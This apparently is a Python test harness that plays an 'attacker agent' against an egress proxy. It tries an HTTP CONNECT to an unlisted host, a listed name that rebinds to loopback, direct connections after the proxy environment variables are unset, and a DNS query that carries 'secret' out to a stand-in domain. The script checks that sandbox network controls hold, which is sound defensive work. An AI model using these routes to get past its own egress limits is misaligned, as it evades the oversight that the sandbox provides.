"""Attacker agent: given a package index it may reach through the egress proxy, tries the rest.

Arguments: the allowed host:port, an unlisted host:port, a listed name that
resolves to loopback (host:port), and a UDP host:port answering like a DNS
server. Prints one JSON line: what each way gave.
"""

import json
import os
import socket
import sys
import urllib.parse
import urllib.request

allowed, unlisted, rebinding, dns = sys.argv[1:5]


def split(host_port: str) -> tuple[str, int]:
    host, _, port = host_port.rpartition(":")
    return host, int(port)


def connect_status(target: str) -> object:
    """CONNECT through HTTPS_PROXY; the status, and the page a GET in the tunnel gave."""
    proxy = os.environ.get("HTTPS_PROXY")
    if not proxy:
        return "no HTTPS_PROXY"
    parts = urllib.parse.urlsplit(proxy)
    try:
        with socket.create_connection((parts.hostname, parts.port), timeout=10) as sock:
            sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
            head = b""
            while b"\r\n\r\n" not in head:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                head += chunk
            status = int(head.split(b" ", 2)[1])
            if status != 200:
                return status
            sock.sendall(b"GET /simple/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
            body = b""
            while chunk := sock.recv(65536):
                body += chunk
            return [status, body.decode("latin-1").splitlines()[-1]]
    except (OSError, ValueError, IndexError) as exc:
        return f"error: {exc}"


def direct(target: str) -> bool:
    try:
        with socket.create_connection(split(target), timeout=5):
            return True
    except OSError:
        return False


def dns_answers(target: str) -> bool:
    # a DNS query for a name that carries data out: the classic exfiltration channel
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        try:
            sock.sendto(query, split(target))
            return bool(sock.recv(512))
        except OSError:
            return False


found: dict[str, object] = {}
try:
    with urllib.request.urlopen(f"http://{allowed}/simple/", timeout=20) as response:
        found["plain_http_via_proxy"] = [response.status, response.read().decode()]
except OSError as exc:
    found["plain_http_via_proxy"] = f"error: {exc}"
found["connect_allowed"] = connect_status(allowed)
found["connect_unlisted"] = connect_status(unlisted)
found["connect_rebinding"] = connect_status(rebinding)
# unsetting the proxy variables: straight to the hosts
for name in ("HTTPS_PROXY", "HTTP_PROXY", "https_proxy", "http_proxy"):
    os.environ.pop(name, None)
found["direct_allowed"] = direct(allowed)
found["direct_unlisted"] = direct(unlisted)
found["direct_rebinding"] = direct(rebinding)
found["dns"] = dns_answers(dns)
print(json.dumps(found), flush=True)
